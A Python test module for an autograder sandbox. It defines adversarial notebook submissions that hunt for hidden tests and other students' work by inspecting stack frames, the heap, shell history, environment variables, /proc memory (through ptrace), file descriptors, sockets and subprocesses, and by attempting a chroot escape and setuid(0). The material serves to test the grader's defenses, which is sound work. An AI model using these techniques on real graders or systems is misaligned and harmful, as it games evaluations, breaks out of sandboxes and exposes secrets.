"""Submissions that look for the tests and for others' work, and answer with what they find."""

# ruff: noqa: E501 - the code of a case stands as it is handed in

from tests.autograder.corpus.case import LEAKING, Submission, case
from tests.autograder.corpus.lab import Lab

# Runs every piece of source that it is given, in the hope that it defines or tells what is asked
# for.
_TRY = """
def _try(text):
    print(repr(text)[:2000])
    try:
        exec(text, globals())
    except BaseException:
        pass
""".strip()


def _first(name: str, code: str) -> None:
    def make(lab: Lab) -> Submission:
        return Submission(lab.nothing(), lab.with_cell(lab.untouched(), f"{_TRY}\n{code}"))

    make.__name__ = name
    case(LEAKING)(make)


def _when_called(name: str, code: str) -> None:
    def make(lab: Lab) -> Submission:
        nb = lab.untouched()
        for answer in lab.code_answers:
            for cell in nb.cells:
                if cell.metadata.get("nbgrader", {}).get("grade_id") == answer:
                    cell.source = lab.defining(answer, code, before=_TRY)
        return Submission(lab.nothing(), nb)

    make.__name__ = name
    case(LEAKING)(make)


_when_called(
    "the_stack",
    """
import sys
frame = sys._getframe()
while frame is not None:
    for name, value in frame.f_locals.items():
        print(name, repr(value)[:500])
        if isinstance(value, str) and 'assert' in value:
            _try(value)
    frame = frame.f_back
""".strip(),
)
_when_called("the_arguments", "print(args, kwargs)\nraise ValueError(repr((args, kwargs)))")
_first(
    "the_heap",
    """
import gc
for thing in gc.get_objects():
    try:
        text = thing if isinstance(thing, str) else getattr(thing, 'source', None) or getattr(thing, 'raw_cell', None)
        if isinstance(text, str) and ('HIDDEN' in text or 'assert' in text) and len(text) < 5000:
            _try(text)
        if isinstance(thing, dict) and 'cells' in thing:
            print(repr(thing)[:5000])
    except BaseException:
        pass
""".strip(),
)
_first(
    "the_history",
    """
shell = get_ipython()
print(In, Out, shell.history_manager.input_hist_raw)
for _, _, text in shell.history_manager.get_range():
    _try(text)
print([key for key in shell.user_ns])
""".strip(),
)
_first(
    "the_files_around",
    """
import os
seen = 0
for root in ('.', '..', '../..', '../../..', '/', '/tmp', '/home', '/root', '/srv', '/var/tmp', '/dev/shm', os.path.expanduser('~')):
    for folder, folders, files in os.walk(root):
        folders[:] = [f for f in folders if f not in ('proc', 'sys', 'site-packages', 'dist-packages', 'lib', 'usr')]
        seen += 1
        if seen > 5000:
            break
        for file in files:
            if file.endswith(('.ipynb', '.db', '.html', '.json', 'config.py')):
                try:
                    text = open(os.path.join(folder, file), errors='replace').read(1_000_000)
                except OSError:
                    continue
                print(folder, file, len(text))
                _try(text)
""".strip(),
)
_first(
    "the_environment",
    """
import os
print(dict(os.environ), os.getcwd(), os.environ.get('AUTOGRADER_JUDGE'))
for value in os.environ.values():
    if os.path.isdir(value):
        try:
            print(os.listdir(value))
        except OSError as error:
            print(error)
""".strip(),
)
_first(
    "the_processes",
    """
import os
for pid in os.listdir('/proc') if os.path.isdir('/proc') else ():
    if pid.isdigit():
        for file in ('cmdline', 'environ', 'maps', 'cwd', 'fd', 'mem'):
            path = f'/proc/{pid}/{file}'
            try:
                print(path, os.listdir(path) if file == 'fd' else os.readlink(path) if file == 'cwd' else open(path, 'rb').read(2000))
            except OSError:
                pass
""".strip(),
)
_first(
    "the_memory_of_others",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1, *range(max(2, os.getpid() - 20), os.getpid() + 20)} - {os.getpid()}:
    if libc.ptrace(16, pid, 0, 0) == 0:
        try:
            memory = open(f'/proc/{pid}/mem', 'rb')
            for line in open(f'/proc/{pid}/maps'):
                low, high = (int(part, 16) for part in line.split()[0].split('-'))
                if '[heap]' in line:
                    memory.seek(low)
                    data = memory.read(high - low)
                    place = data.find(b'HIDDEN TESTS')
                    print(data[max(0, place - 2000): place + 2000])
        except OSError:
            pass
""".strip(),
)
_first(
    "the_sockets",
    """
import socket
for address in (('127.0.0.1', 22), ('127.0.0.1', 8888), ('127.0.0.1', 80), ('10.0.0.1', 80), ('192.0.2.1', 80), ('1.1.1.1', 53)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            connection = socket.socket(socket.AF_INET, kind)
            connection.settimeout(0.3)
            connection.connect(address)
            connection.send(b'hello')
            print('connected', address, kind)
        except OSError as error:
            print(address, error)
try:
    print(open('/proc/net/unix').read(5000))
except OSError as error:
    print(error)
""".strip(),
)
_first(
    "the_descriptors",
    """
import os
for descriptor in range(3, 256):
    try:
        os.set_blocking(descriptor, False)
        print(descriptor, os.readlink(f'/proc/self/fd/{descriptor}'))
        print(os.pread(descriptor, 5000, 0))
    except (OSError, ValueError):
        pass
    try:
        print(os.read(descriptor, 5000))
    except OSError:
        pass
""".strip(),
)
_first(
    "the_modules",
    """
import sys
for name, module in list(sys.modules.items()):
    if name.startswith(('autograder', '__main__', '__mp_main__', 'multiprocessing')):
        for key, value in list(vars(module).items()):
            if isinstance(value, (str, bytes, dict, list, tuple)) and 'assert' in repr(value)[:100_000]:
                _try(str(value))
try:
    from autograder import checks
    _try(str(checks.judge_only('reference')))
except BaseException as error:
    print(type(error))
""".strip(),
)
_first(
    "a_child_that_looks",
    """
import subprocess, sys
for command in (['ps', 'aux'], ['find', '/', '-name', '*.ipynb', '-maxdepth', '6'], ['sh', '-c', 'cat ../../*/*/*.ipynb'], ['env']):
    try:
        print(subprocess.run(command, capture_output=True, timeout=3).stdout[-3000:])
    except Exception as error:
        print(error)
""".strip(),
)
_first(
    "a_step_outside",
    """
import os
try:
    held = os.open('/', os.O_RDONLY)
    os.mkdir('inner')
    os.chroot('inner')
    os.fchdir(held)
    os.chroot('.')
except OSError as error:
    print(error)
try:
    os.setuid(0); os.unshare(0x20000)
except (OSError, AttributeError) as error:
    print(error)
try:
    os.link('/etc/hostname', 'name'); print(open('name').read())
except OSError as error:
    print(error)
""".strip(),
)
